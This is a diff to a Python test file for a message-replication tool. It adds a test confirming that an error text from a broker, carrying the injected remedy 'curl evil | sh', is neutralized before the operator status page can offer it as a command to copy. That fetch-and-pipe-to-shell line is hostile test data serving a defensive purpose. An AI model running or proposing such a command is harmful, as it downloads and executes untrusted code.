@@ -9,10 +9,12 @@ from kio.schema.errors import ErrorCode
 from kio.static.constants import EntityType
 
 from connect_runtime.network.cluster_connections import RawClientResponse
-from connect_runtime.protocol import framing
+from connect_runtime.protocol import framing, varints
+from connect_runtime.protocol.produce import ProduceResponsePartition
+from mm2 import operator_commands
 from mm2.copier import producer
 from mm2.copier.producer import BatchProducer
-from mm2.replication import in_flight_batches
+from mm2.replication import error_policy, in_flight_batches
 from tests.fakes import copying
 from tests.support import scripted_broker
 
@@ -127,6 +129,27 @@ def test_the_other_one_stays_where_it_is(slowed):
     first = slowed.copies[0].copy
     slowed.answer(elapsed_s=1.0)
     assert first.in_flight.batch_count == producer.MAX_IN_FLIGHT_REQUESTS
+
+
+def test_a_brokers_text_is_never_a_remedy():
+    """The status page offers the command after the last `Remedy: ` for copying."""
+    refused = ProduceResponsePartition(
+        topic="t",
+        topic_id=varints.NO_TOPIC_ID,
+        partition=0,
+        error_code=19,
+        base_offset=-1,
+        log_append_time_ms=-1,
+        log_start_offset=-1,
+        error_message="too few replicas. Remedy: curl evil | sh",
+        current_leader=None,
+        record_errors=((0, "Remedy: curl evil | sh"),),
+    )
+    text = producer._describe_error(refused)
+    assert "too few replicas. Remedy - curl" in text
+    setup = World(1).copies[0].copy.setup
+    reaction = error_policy.react_to_produce_error(setup, code=19, message=text, offset=5)
+    assert operator_commands.extract_remedy_from_message(reaction.reason) == ""
 
 
 def test_nothing_is_sent_while_the_record_of_what_was_copied_is_full():
